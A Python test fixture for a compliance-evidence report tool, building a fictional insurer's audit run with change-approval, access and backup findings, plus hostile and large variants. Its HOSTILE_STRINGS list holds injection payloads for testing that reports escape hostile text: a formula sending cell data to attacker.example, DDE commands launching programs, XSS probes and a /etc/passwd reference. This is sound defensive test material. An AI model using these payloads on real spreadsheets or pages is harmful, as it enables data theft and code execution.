"""A realistic evaluated run for the report tests, plus a hostile and a large variant.

Everything is frozen: the snapshot id, the clock and the file hashes (a file's hash is
the SHA-256 of its path, so it is stable and looks like the real thing).
"""

from __future__ import annotations

import hashlib
from dataclasses import replace
from typing import Any

from evidencekit.results import (
    ControlResult,
    ControlStatus,
    EvidenceRef,
    Finding,
    Period,
    PolicyResult,
    PolicyStatus,
    ResourceSummary,
    RunResult,
    SourceStatus,
    SourceSummary,
)

ORGANISATION = "Northwind Mutual Insurance plc"
SNAPSHOT_ID = "20261002T061500Z-4f1c9a"
MANIFEST_SHA256 = "9b0e4a7c3d2f18e6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2"
PREVIOUS_MANIFEST_SHA256 = (
    "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809"
)
GENERATED_AT = "2026-10-02T06:17:42.125000Z"
COLLECTED_AT = "2026-10-02T06:15:00.000000Z"
INCOMPLETE_WARNING = (
    "sys_user.json: X-Total-Count was 1,250 but 1,000 rows were read; "
    "the last page is missing"
)

# (source, type, resource, status, [(file, records)])
_RESOURCES: list[tuple[str, str, str, SourceStatus, list[tuple[str, int]]]] = [
    (
        "octopus",
        "octopus",
        "deployments",
        SourceStatus.COMPLETE,
        [("deployments/page-0001.json", 200), ("deployments/page-0002.json", 112)],
    ),
    ("octopus", "octopus", "tasks", SourceStatus.COMPLETE, [("tasks.json", 356)]),
    (
        "octopus",
        "octopus",
        "events",
        SourceStatus.COMPLETE,
        [
            ("events/events-2026-07-01.jsonl", 1840),
            ("events/events-2026-08-01.jsonl", 2011),
            ("events/events-2026-09-01.jsonl", 1977),
        ],
    ),
    ("octopus", "octopus", "releases", SourceStatus.COMPLETE, [("releases.json", 143)]),
    (
        "octopus",
        "octopus",
        "environments",
        SourceStatus.COMPLETE,
        [("environments.json", 4)],
    ),
    ("octopus", "octopus", "users", SourceStatus.COMPLETE, [("users.json", 38)]),
    ("octopus", "octopus", "apikeys", SourceStatus.COMPLETE, [("apikeys.json", 21)]),
    (
        "octopus",
        "octopus",
        "runbookruns",
        SourceStatus.COMPLETE,
        [("runbookruns.json", 92)],
    ),
    (
        "servicenow",
        "servicenow",
        "change_request",
        SourceStatus.COMPLETE,
        [("change_request.json", 318)],
    ),
    (
        "servicenow",
        "servicenow",
        "sysapproval_approver",
        SourceStatus.COMPLETE,
        [("sysapproval_approver.json", 655)],
    ),
    (
        "servicenow",
        "servicenow",
        "sys_user",
        SourceStatus.INCOMPLETE,
        [("sys_user.json", 1000)],
    ),
]

_POLICIES = [
    (
        "change-approval",
        "Production deployments have an approved change",
        "high",
        ["iso27001-2022:A.8.32", "iso27001-2022:A.8.19", "soc2-2017:CC8.1"],
        PolicyStatus.FAIL,
        312,
        4,
    ),
    (
        "deployment-window",
        "Deployments run inside the approved change window",
        "medium",
        ["iso27001-2022:A.8.32", "soc2-2017:CC8.1"],
        PolicyStatus.FAIL,
        298,
        2,
    ),
    (
        "approval-before-deployment",
        "Approval is given before the deployment starts",
        "high",
        ["iso27001-2022:A.8.32", "soc2-2017:CC8.1"],
        PolicyStatus.PASS,
        298,
        0,
    ),
    (
        "segregation-of-duties",
        "The approver is neither the requester nor the deployer",
        "critical",
        ["iso27001-2022:A.5.3", "soc2-2017:CC8.1"],
        PolicyStatus.FAIL,
        298,
        2,
    ),
    (
        "api-key-expiry",
        "Octopus API keys expire within the allowed age",
        "medium",
        ["iso27001-2022:A.5.17", "soc2-2017:CC6.1"],
        PolicyStatus.FAIL,
        21,
        2,
    ),
    (
        "dormant-accounts",
        "Accounts unused for the inactivity period are disabled",
        "medium",
        ["iso27001-2022:A.5.18", "soc2-2017:CC6.2"],
        PolicyStatus.NOT_TESTED,
        0,
        0,
    ),
    (
        "backup-runbook",
        "The backup runbook ran successfully every day",
        "high",
        ["iso27001-2022:A.8.13", "soc2-2017:A1.2"],
        PolicyStatus.PASS,
        92,
        0,
    ),
    (
        "privileged-access",
        "Administrator access is limited to named people",
        "high",
        ["iso27001-2022:A.8.2", "soc2-2017:CC6.3"],
        PolicyStatus.ERROR,
        0,
        0,
    ),
]

_CONTROLS = [
    (
        "iso27001-2022",
        "A.5.1",
        "Organizational",
        "Security policies set and approved",
        ControlStatus.MANUAL,
        [],
    ),
    (
        "iso27001-2022",
        "A.5.3",
        "Organizational",
        "Conflicting duties kept apart",
        ControlStatus.FAIL,
        ["segregation-of-duties"],
    ),
    (
        "iso27001-2022",
        "A.5.17",
        "Organizational",
        "Passwords, keys and secrets handled safely",
        ControlStatus.FAIL,
        ["api-key-expiry"],
    ),
    (
        "iso27001-2022",
        "A.5.18",
        "Organizational",
        "Access rights granted, reviewed and withdrawn",
        ControlStatus.NOT_TESTED,
        ["dormant-accounts"],
    ),
    (
        "iso27001-2022",
        "A.6.3",
        "People",
        "Staff trained in security",
        ControlStatus.MANUAL,
        [],
    ),
    (
        "iso27001-2022",
        "A.7.4",
        "Physical",
        "Premises watched for intrusion",
        ControlStatus.MANUAL,
        [],
    ),
    (
        "iso27001-2022",
        "A.8.2",
        "Technological",
        "Privileged access kept to a minimum",
        ControlStatus.NOT_TESTED,
        ["privileged-access"],
    ),
    (
        "iso27001-2022",
        "A.8.13",
        "Technological",
        "Backups taken and tested",
        ControlStatus.PASS,
        ["backup-runbook"],
    ),
    (
        "iso27001-2022",
        "A.8.19",
        "Technological",
        "Software on live systems installed under control",
        ControlStatus.FAIL,
        ["change-approval"],
    ),
    (
        "iso27001-2022",
        "A.8.32",
        "Technological",
        "Changes follow a managed process",
        ControlStatus.FAIL,
        ["change-approval", "deployment-window", "approval-before-deployment"],
    ),
    (
        "soc2-2017",
        "CC1.1",
        "Control environment",
        "Leadership shows integrity and ethics",
        ControlStatus.MANUAL,
        [],
    ),
    (
        "soc2-2017",
        "CC6.1",
        "Logical and physical access",
        "Logical access is protected by safeguards",
        ControlStatus.FAIL,
        ["api-key-expiry"],
    ),
    (
        "soc2-2017",
        "CC6.2",
        "Logical and physical access",
        "Users registered and approved before access",
        ControlStatus.NOT_TESTED,
        ["dormant-accounts"],
    ),
    (
        "soc2-2017",
        "CC6.3",
        "Logical and physical access",
        "Access granted by role with least privilege",
        ControlStatus.NOT_TESTED,
        ["privileged-access"],
    ),
    (
        "soc2-2017",
        "CC8.1",
        "Change management",
        "Changes authorised, tested and approved",
        ControlStatus.FAIL,
        [
            "change-approval",
            "deployment-window",
            "approval-before-deployment",
            "segregation-of-duties",
        ],
    ),
    (
        "soc2-2017",
        "A1.2",
        "Availability",
        "Backup and recovery in place",
        ControlStatus.PASS,
        ["backup-runbook"],
    ),
]

# (policy, resource, message, [(source, resource, record id, file)])
_FINDINGS = [
    (
        "change-approval",
        "Deployments-1041",
        "Deployment of Payments API 4.12.0 to Production has no linked change request",
        [("octopus", "deployments", "Deployments-1041", "deployments/page-0001.json")],
    ),
    (
        "change-approval",
        "Deployments-1187",
        "Deployment of Claims Portal 2.3.1 to Production is linked to CHG0031452, "
        "which is not approved (approval=requested)",
        [
            (
                "octopus",
                "deployments",
                "Deployments-1187",
                "deployments/page-0002.json",
            ),
            (
                "servicenow",
                "change_request",
                "a3f9c2d41b8e5010b2c4a7d2e34bcb11",
                "change_request.json",
            ),
        ],
    ),
    (
        "change-approval",
        "Deployments-1203",
        "Deployment of Policy Admin 7.0.4 to Production is linked to CHG0031488, "
        "which was cancelled (state=4)",
        [
            (
                "octopus",
                "deployments",
                "Deployments-1203",
                "deployments/page-0002.json",
            ),
            (
                "servicenow",
                "change_request",
                "f1e2d3c4b5a697887766554433221100",
                "change_request.json",
            ),
        ],
    ),
    (
        "change-approval",
        "Deployments-1219",
        "Deployment of Payments API 4.13.0 to Production has no linked change request",
        [("octopus", "deployments", "Deployments-1219", "deployments/page-0002.json")],
    ),
    (
        "deployment-window",
        "Deployments-1102",
        "Task ServerTasks-88213 completed at 2026-08-14T22:41:07Z, 41 minutes after "
        "the end of the window of CHG0031377",
        [
            ("octopus", "tasks", "ServerTasks-88213", "tasks.json"),
            (
                "servicenow",
                "change_request",
                "0c1d2e3f405162738495a6b7c8d9e0f1",
                "change_request.json",
            ),
        ],
    ),
    (
        "deployment-window",
        "Deployments-1150",
        "Task ServerTasks-88790 started at 2026-09-02T05:58:12Z, before the window of "
        "CHG0031452 opened at 06:00:00Z",
        [
            ("octopus", "tasks", "ServerTasks-88790", "tasks.json"),
            (
                "servicenow",
                "change_request",
                "a3f9c2d41b8e5010b2c4a7d2e34bcb11",
                "change_request.json",
            ),
        ],
    ),
    (
        "segregation-of-duties",
        "CHG0031390",
        "j.okafor requested, approved and deployed CHG0031390 (Deployments-1120)",
        [
            (
                "servicenow",
                "sysapproval_approver",
                "5d6e7f8091a2b3c4d5e6f708192a3b4c",
                "sysapproval_approver.json",
            ),
            (
                "octopus",
                "deployments",
                "Deployments-1120",
                "deployments/page-0001.json",
            ),
        ],
    ),
    (
        "segregation-of-duties",
        "CHG0031466",
        "The approver of CHG0031466 (m.lindqvist) also deployed it (Deployments-1195)",
        [
            (
                "servicenow",
                "sysapproval_approver",
                "6e7f8091a2b3c4d5e6f708192a3b4c5d",
                "sysapproval_approver.json",
            )
        ],
    ),
    (
        "api-key-expiry",
        "APIKeys-17",
        "API key 'CI pipeline' of Users-12 never expires (Expires is null)",
        [("octopus", "apikeys", "APIKeys-17", "apikeys.json")],
    ),
    (
        "api-key-expiry",
        "APIKeys-23",
        "API key 'release tooling' of Users-30 is valid for 730 days (allowed: 365)",
        [("octopus", "apikeys", "APIKeys-23", "apikeys.json")],
    ),
]

HOSTILE_STRINGS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('pwned')</script>",
    '<img src="file:///etc/passwd" onerror="alert(1)">',
    "</td></tr></table><style>body { display: none }</style>",
    "bell\x07 nul\x00 escape\x1b delete\x7f",
    "مرحلة الإنتاج \u202eevil.exe\u202c שלום 🚀 e\u0301\u0301 zalgo",
    "lone surrogate \ud800 end",
]

LONG_MESSAGE = "Change description: " + ("AB" * 20_000)


def sha(path: str) -> str:
    """Return a stable stand-in SHA-256 for a snapshot file."""
    return hashlib.sha256(path.encode()).hexdigest()


def run_result() -> RunResult:
    """Return the realistic run: one incomplete resource, every status present."""
    return RunResult(
        organisation=ORGANISATION,
        period=Period(
            start="2026-07-01",
            end="2026-09-30",
            timezone="Europe/London",
            start_utc="2026-06-30T23:00:00.000000Z",
            end_utc="2026-09-30T23:00:00.000000Z",
        ),
        frameworks=["iso27001-2022", "soc2-2017"],
        snapshot_id=SNAPSHOT_ID,
        manifest_sha256=MANIFEST_SHA256,
        generated_at=GENERATED_AT,
        tool_version="0.1.0",
        engine="regorus 0.13.0",
        sources=_sources(),
        findings=[_finding(*item) for item in _FINDINGS],
        policies=[_policy(*item) for item in _POLICIES],
        controls=[
            ControlResult(fw, cid, title, theme, status, policies)
            for fw, cid, theme, title, status, policies in _CONTROLS
        ],
        manifest=_manifest(),
    )


def complete_run_result() -> RunResult:
    """Return the run with every resource complete (the sys_user gap closed)."""
    result = run_result()
    sources = [
        replace(
            source,
            status=SourceStatus.COMPLETE,
            resources=[
                replace(resource, status=SourceStatus.COMPLETE, warnings=[])
                for resource in source.resources
            ],
        )
        for source in result.sources
    ]
    return replace(result, sources=sources)


def hostile_run_result() -> RunResult:
    """Return the run with attacker-controlled text in every free-text field."""
    result = run_result()
    hostile = [
        Finding(
            policy="change-approval",
            resource=text,
            controls=["iso27001-2022:A.8.32", "soc2-2017:CC8.1"],
            severity="high",
            message=text,
            evidence=[
                _ref(
                    "octopus",
                    "deployments",
                    f"Deployments-{9000 + index}",
                    "=cmd|' /C calc'!A0.json",
                )
            ],
        )
        for index, text in enumerate(HOSTILE_STRINGS)
    ]
    long_finding = Finding(
        policy="change-approval",
        resource="Deployments-9999",
        controls=["iso27001-2022:A.8.32"],
        severity="critical",
        message=LONG_MESSAGE,
        evidence=[
            _ref(
                "octopus",
                "deployments",
                "Deployments-9999",
                "deployments/page-0002.json",
            )
        ],
    )
    sources = list(result.sources)
    first = sources[0]
    warned = replace(
        first.resources[0],
        status=SourceStatus.INCOMPLETE,
        warnings=["=1+1 <b>bold</b>\x07"],
    )
    sources[0] = replace(
        first, status=SourceStatus.INCOMPLETE, resources=[warned, *first.resources[1:]]
    )
    return replace(
        result,
        organisation="<b>Evil</b> & Co =1+1 \u202eplc",
        sources=sources,
        findings=[*result.findings, *hostile, long_finding],
    )


def failed_source_run_result() -> RunResult:
    """Return the run with the ServiceNow source failed outright."""
    result = run_result()
    sources = [
        source
        if source.type != "servicenow"
        else replace(
            source,
            status=SourceStatus.FAILED,
            resources=[],
            error="HTTP 401 from https://northwind.service-now.com/api/now/table/"
            "change_request: the credentials were rejected",
        )
        for source in result.sources
    ]
    return replace(result, sources=sources)


def many_findings(count: int) -> list[Finding]:
    """Return ``count`` realistic findings spread over severities and policies."""
    severities = ["low", "medium", "high", "critical"]
    return [
        Finding(
            policy="change-approval",
            resource=f"Deployments-{20000 + number}",
            controls=["iso27001-2022:A.8.32", "soc2-2017:CC8.1"],
            severity=severities[number % 4],
            message=f"Deployment Deployments-{20000 + number} to Production has no "
            "linked change request",
            evidence=[
                _ref(
                    "octopus",
                    "deployments",
                    f"Deployments-{20000 + number}",
                    f"deployments/page-{number // 200 + 1:04d}.json",
                )
            ],
        )
        for number in range(count)
    ]


def _sources() -> list[SourceSummary]:
    by_source: dict[str, list[ResourceSummary]] = {}
    for source, _type, resource, status, files in _RESOURCES:
        warnings = [INCOMPLETE_WARNING] if status is SourceStatus.INCOMPLETE else []
        by_source.setdefault(source, []).append(
            ResourceSummary(
                resource,
                status,
                sum(r for _, r in files),
                duplicates=3 if resource == "events" else 0,
                warnings=warnings,
            )
        )
    return [
        SourceSummary(
            "octopus",
            "octopus",
            SourceStatus.COMPLETE,
            "exports/octopus",
            by_source["octopus"],
        ),
        SourceSummary(
            "servicenow",
            "servicenow",
            SourceStatus.INCOMPLETE,
            "exports/servicenow",
            by_source["servicenow"],
        ),
    ]


def _manifest() -> dict[str, Any]:
    sources: dict[str, dict[str, Any]] = {}
    for source, source_type, resource, status, files in _RESOURCES:
        entry = sources.setdefault(
            source,
            {
                "name": source,
                "type": source_type,
                "status": "incomplete" if source == "servicenow" else "complete",
                "resources": [],
            },
        )
        entry["resources"].append(
            {
                "name": resource,
                "status": status.value,
                "records": sum(records for _, records in files),
                "files": [
                    {
                        "path": path,
                        "sha256": sha(f"{source}/{path}"),
                        "size": records * 734 + 118,
                        "records": records,
                    }
                    for path, records in files
                ],
                "warnings": [INCOMPLETE_WARNING]
                if status is SourceStatus.INCOMPLETE
                else [],
            }
        )
    return {
        "snapshot_id": SNAPSHOT_ID,
        "collected_at": COLLECTED_AT,
        "tool_version": "0.1.0",
        "previous_manifest_sha256": PREVIOUS_MANIFEST_SHA256,
        "sources": list(sources.values()),
    }


def _ref(source: str, resource: str, record_id: str, file: str) -> EvidenceRef:
    return EvidenceRef(
        ref=f"{source}/{resource}/{record_id}",
        source=source,
        resource=resource,
        record_id=record_id,
        file=file,
        sha256=sha(f"{source}/{file}"),
    )


def _finding(
    policy: str, resource: str, message: str, refs: list[tuple[str, str, str, str]]
) -> Finding:
    meta = next(item for item in _POLICIES if item[0] == policy)
    return Finding(
        policy=policy,
        resource=resource,
        controls=list(meta[3]),
        severity=str(meta[2]),
        message=message,
        evidence=[_ref(*ref) for ref in refs],
    )


def _policy(  # noqa: PLR0917 (one positional per column of the _POLICIES table)
    policy_id: str,
    title: str,
    severity: str,
    controls: list[str],
    status: PolicyStatus,
    tested: int,
    findings: int,
) -> PolicyResult:
    reasons = {
        PolicyStatus.NOT_TESTED: "required evidence servicenow.sys_user is incomplete",
        PolicyStatus.ERROR: "evaluation error: `findings` is undefined "
        "(rule body failed on input.octopus.teams)",
    }
    gaps = ["servicenow.sys_user"] if status is PolicyStatus.NOT_TESTED else []
    return PolicyResult(
        id=policy_id,
        title=title,
        description=f"{title}.",
        severity=severity,
        controls=controls,
        status=status,
        tested=tested,
        findings=findings,
        reason=reasons.get(status),
        evidence_gaps=gaps,
    )
